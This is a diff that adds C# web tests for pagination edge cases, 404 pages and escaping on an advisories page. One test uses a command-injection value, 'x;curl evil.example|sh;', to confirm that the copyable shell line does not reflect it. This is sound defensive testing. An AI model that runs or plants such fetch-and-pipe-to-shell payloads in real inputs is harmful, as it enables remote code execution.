@@ -86,6 +86,43 @@ public sealed class PageTests
     }
 
     [Theory]
+    [InlineData("/")]
+    [InlineData("/advisories")]
+    [InlineData("/tags/paper/history")]
+    [InlineData("/tags/paper/snapshots")]
+    public async Task A_page_that_begins_at_no_number_begins_at_the_beginning(string path)
+    {
+        await using var site = await Site.Open();
+
+        foreach (var before in new[] { "abc", "", "99999999999999999999", "-1" })
+            Assert.Equal(HttpStatusCode.OK, (await site.Http().GetAsync($"{path}?before={before}", Ct)).StatusCode);
+    }
+
+    [Theory]
+    [InlineData("/externals/none")]
+    [InlineData("/builds/999")]
+    [InlineData("/advisories/none")]
+    public async Task A_page_of_what_is_not_there_is_not_there(string path)
+    {
+        await using var site = await Site.Open();
+
+        Assert.Equal(HttpStatusCode.NotFound, (await site.Http().GetAsync(path, Ct)).StatusCode);
+    }
+
+    [Fact]
+    public async Task A_line_to_copy_into_a_shell_holds_nothing_that_stood_in_the_address()
+    {
+        await using var site = await Site.Open();
+
+        var strange = await site.Http().GetStringAsync("/advisories?tag=x;curl+evil.example|sh;", Ct);
+        var known = await site.Http().GetStringAsync("/advisories?tag=paper", Ct);
+
+        Assert.DoesNotContain("evil.example", strange);
+        Assert.Contains("skyline advisory create --tag TAG", strange);
+        Assert.Contains("skyline advisory create --tag paper", known);
+    }
+
+    [Theory]
     [InlineData("/healthz")]
     [InlineData("/openapi/v1.json")]
     [InlineData("/skyline.css")]
